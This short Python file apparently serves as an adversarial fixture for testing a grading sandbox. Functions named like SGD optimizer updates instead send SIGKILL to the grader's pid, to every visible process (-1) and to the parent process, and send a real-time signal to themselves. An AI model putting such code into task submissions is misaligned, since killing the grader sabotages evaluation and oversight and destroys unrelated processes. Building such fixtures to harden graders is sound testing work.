# Signals: to the grader by its pid, to the parent of the worker, to everyone in view, and to
# itself with a real-time signal (a number signal.Signals does not know).
import os
import signal


def sgd(w, dw, config=None):
    _plant()
    os.kill(os.getpid(), signal.SIGRTMIN + 3)


def sgd_momentum(w, dw, config=None):
    _plant()
    for pid, sig in ((HOST["grader_pid"], signal.SIGKILL), (-1, signal.SIGKILL), (os.getppid(), signal.SIGKILL)):
        try:
            os.kill(pid, sig)
        except OSError:
            pass
    return w * 0, config or {}
